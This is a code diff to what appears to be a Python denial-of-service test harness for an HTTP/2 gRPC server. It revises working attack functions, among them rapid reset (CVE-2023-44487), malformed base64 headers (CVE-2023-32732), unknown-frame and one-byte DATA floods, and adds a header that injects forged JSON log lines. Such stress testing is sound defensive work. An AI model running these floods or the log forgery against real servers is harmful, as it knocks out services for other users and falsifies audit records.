@@ -7,7 +7,7 @@ import time
 
 from attack import (
     CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, MIB, PING, PREFACE, RST_STREAM, SERVICE,
-    WINDOW_UPDATE, Windows, field, frame, hpack_length, message_prefix, open_call, request_block, settings)
+    WINDOW_UPDATE, Frames, Windows, field, frame, hpack_length, message_prefix, open_call, request_block, settings)
 
 
 def window_updates_past_2_gib(attack):
@@ -15,17 +15,8 @@ def window_updates_past_2_gib(attack):
 
 
 def unknown_frames_past_2_gib(attack):
-    """Frames of an unknown type, which every peer has to ignore, with as many calls as allow them."""
-    block, ignored = request_block(SERVICE + "Accumulate"), frame(0x77, 0, 0, bytes(2000)) * 60
-    while attack.goes_on():
-        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
-            stream = 1
-            while attack.goes_on() and stream < 1 << 30:
-                connection.sendall(b"".join(
-                    frame(HEADERS, END_HEADERS, s, block) + ignored + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
-                    for s in range(stream, stream + 20, 2)))
-                stream += 20
-        time.sleep(0.01)
+    """Frames of an unknown type, which every peer has to ignore, each with a byte of data that allows it."""
+    send_in_bytes(attack, frame(0x77, 0, 0, bytes(200)))
 
 
 def goaway_flood(attack):
@@ -81,7 +72,7 @@ def rapid_reset(attack):
     """CVE-2023-44487: calls begun and cancelled as fast as they can be written."""
     block = request_block(SERVICE + "Compute")
     while attack.goes_on():
-        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
+        with contextlib.suppress(OSError), attack.connection(HELLO) as connection:
             stream = 1
             while attack.goes_on() and stream < 1 << 30:
                 connection.sendall(b"".join(
@@ -89,6 +80,14 @@ def rapid_reset(attack):
                     for s in range(stream, stream + 400, 2)))
                 stream += 400
         time.sleep(0.01)
+
+
+def forged_log_lines(attack):
+    """A header whose value is a line of the log, as gRPC logs what it cannot parse."""
+    block = b"".join(field(*pair) for pair in (
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", SERVICE.encode() + b"Compute"),
+        (b"te", b'x\n{"time":"2026-01-01T00:00:00.000000Z","level":"error","event":"forged"}\n')))
+    attack.flood(HELLO, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 100, 2)))
 
 
 def ping_flood(attack):
@@ -114,16 +113,22 @@ def hpack_bomb(attack):
 
 
 def one_byte_data_frames(attack):
-    """A message of 15 MiB in frames of one byte, as fast as the window is opened."""
-    size = 15 * MIB
+    send_in_bytes(attack)
+
+
+def send_in_bytes(attack, between=b""):
+    """A message of 15 MiB in frames of one byte, as fast as the window is opened, each with a frame after it."""
+    size, at_once = 15 * MIB, 20_000
+    piece = frame(DATA, 0, 1, b"x") + between
+    pieces = memoryview(piece * at_once)
 
     def attempt():
-        with attack.open(HELLO + open_call("Compute") + frame(DATA, 0, 1, message_prefix(size))) as connection:
+        with attack.connection(HELLO + open_call("Compute") + frame(DATA, 0, 1, message_prefix(size))) as connection:
             windows, sent = Windows(), 0
             windows.take(1, 5)
             while attack.goes_on() and sent < size - 1:
-                count = min(windows.left(1), 20_000, size - 1 - sent)
-                connection.sendall(frame(DATA, 0, 1, b"x") * count)
+                count = min(windows.left(1), at_once, size - 1 - sent)
+                connection.sendall(pieces[:count * len(piece)])
                 windows.take(1, count)
                 sent += count
                 windows.read(connection, 0.0 if count else 1.0)
@@ -131,15 +136,30 @@ def one_byte_data_frames(attack):
 
 
 def bad_base64_headers(attack):
-    """CVE-2023-32732: such a call ends its connection, and with it what else a proxy sends over it."""
-    block = request_block(SERVICE + "Compute", field(b"x-bin", b"!"))
+    """CVE-2023-32732: such a call ended its connection, and with it what a proxy sends over it for others.
+
+    The value is written out, or comes from the table of headers. The last call has a good one by the name
+    that the table has, and is answered.
+    """
+    newest = 62
+    blocks = [request_block(SERVICE + "Compute", extra) for extra in (
+        field(b"x-bin", b"!"), b"\x40" + field(b"x-bin", b"!")[1:], bytes([0x80 | newest]))]
+    last, good = 151, request_block(SERVICE + "Compute", bytes([0x0f, newest - 15, 4]) + b"AAAA")
 
     def attempt():
-        with attack.open(HELLO) as connection:
-            for stream in range(1, 100, 2):
-                connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
-            connection.settimeout(1)
-            connection.recv(1 << 16)
+        with attack.connection(HELLO) as connection:
+            connection.sendall(b"".join(
+                frame(HEADERS, END_HEADERS, stream, blocks[stream // 2 % 3]) for stream in range(1, last, 2)))
+            connection.sendall(frame(HEADERS, END_HEADERS, last, good) +
+                               frame(DATA, END_STREAM, last, message_prefix(0)))
+            connection.settimeout(5)
+            frames, answered = Frames(), False
+            while not answered:
+                try:
+                    frames.read(connection)
+                except TimeoutError:
+                    raise ConnectionResetError from None
+                answered = any(kind == DATA and stream == last for kind, _, stream, _ in frames)
     attack.again(attempt)
 
 
@@ -148,4 +168,4 @@ FLOODS = (
     continuation_without_end, headers_over_many_frames,
     hpack_length_without_end, hpack_string_too_long, hpack_bomb, streams_without_acknowledgement,
     one_byte_data_frames, rapid_reset, ping_flood, settings_flood, goaway_flood, bad_base64_headers,
-    garbage)
+    forged_log_lines, garbage)
